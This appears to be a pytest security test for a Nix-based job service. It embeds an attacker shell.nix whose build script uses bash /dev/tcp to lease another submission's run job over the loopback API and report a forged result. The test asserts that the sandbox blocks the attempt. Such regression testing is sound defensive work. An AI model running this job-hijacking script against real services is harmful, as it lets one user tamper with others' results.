"""A `shell.nix` whose build, run by the cache builder, takes another
submission's run job over the loopback API and reports a result of its own
choosing for it.

`nixjail serve` has no tokens file, so submitters need none; the lease
endpoints must still be closed to it, or the victim ends `done` with the
attacker's stdout and its own code never runs."""

from __future__ import annotations

from pathlib import Path

import pytest
from serve_stack import SHELL_NIX, serving, stage_stdout

pytestmark = [pytest.mark.docker, pytest.mark.nix]

# The builder speaks HTTP with bash's /dev/tcp; PORT is the API's.
ATTACK = r"""
http() {
  exec 3<>/dev/tcp/127.0.0.1/PORT || { echo "attack: cannot connect"; return; }
  printf '%s %s HTTP/1.0\r\nContent-Type: application/json\r\n' "$1" "$2" >&3
  printf 'Content-Length: %d\r\n\r\n%s' "${#3}" "$3" >&3
  cat <&3
  exec 3>&-
}
answer=$(http POST /v1/leases '{"queue": "run", "holder": "attacker/1", "wait_s": 5}')
echo "attack: lease answer: $(echo "$answer" | head -n 1)"
token=$(echo "$answer" | sed -n 's/.*"token":"\([^"]*\)".*/\1/p' | head -n 1)
victim=$(echo "$answer" | sed -n 's/.*"submission_id":"\([^"]*\)".*/\1/p' | head -n 1)
if [ -n "$token" ]; then
  skipped='{"status": "skipped"}'
  forged='{"status": "ok", "exit_code": 0, "stdout": "forged by the attacker\n"}'
  for stage in compile run; do
    result=$skipped; [ $stage = run ] && result=$forged
    http PUT "/v1/leases/$victim/stages/$stage" "{\"token\": \"$token\", \"result\": $result}"
  done
  http POST "/v1/leases/$victim/complete" "{\"token\": \"$token\"}"
fi
exit 1
"""


def attacker_shell_nix(port: int) -> str:
    script = ATTACK.replace("PORT", str(port)).replace("''", "'''").replace("${", "''${")
    return f"""{{ pkgs ? import <nixpkgs> {{}} }}:
let forge = derivation {{
  name = "forge";
  system = builtins.currentSystem;
  builder = "${{pkgs.bash}}/bin/bash";
  PATH = "${{pkgs.busybox}}/bin";
  args = [ "-c" ''{script}'' ];
}};
in pkgs.mkShell {{ packages = [ forge ]; }}
"""


def test_a_build_cannot_lease_and_complete_another_submissions_job(tmp_path: Path) -> None:
    # One run at a time, so the victim waits in the run queue while the
    # attacker's environment is built.
    settings = "[runner]\nconcurrency = 1\n[cache_builder]\nenabled = true\n"
    for served in serving(tmp_path, settings_toml=settings):
        port = int(served.api.url.rsplit(":", 1)[1])
        blocker = served.create(run_sh="sleep 6", cache=False)
        served.wait_until("the blocker running",
                          lambda: served.status_of(blocker) == "running")  # noqa: B023
        victim = served.create(run_sh="echo the victim ran its own code", cache=False)
        assert served.status_of(victim) == "queued"
        attacker = served.api.submit(shell_nix=attacker_shell_nix(port), run_sh="true")

        ended = served.api.wait(victim, 60)
        assert ended["status"] == "done", ended
        assert stage_stdout(ended) == "the victim ran its own code\n", ended["stages"]["run"]
        assert ended["attempts"] == 1
        deps = attacker["stages"]["dependencies"]
        assert attacker["status"] == "failed", attacker
        # The Nix sandbox's network namespace: the API is not even reached
        # (a lease asked for without a worker token would be 403).
        assert "attack: cannot connect" in deps["stderr"], deps
        assert served.api.wait(blocker, 60)["status"] == "done"
        # A benign submission right after runs as ever.
        assert stage_stdout(served.api.submit(shell_nix=SHELL_NIX, run_sh="echo ok")) == "ok\n"
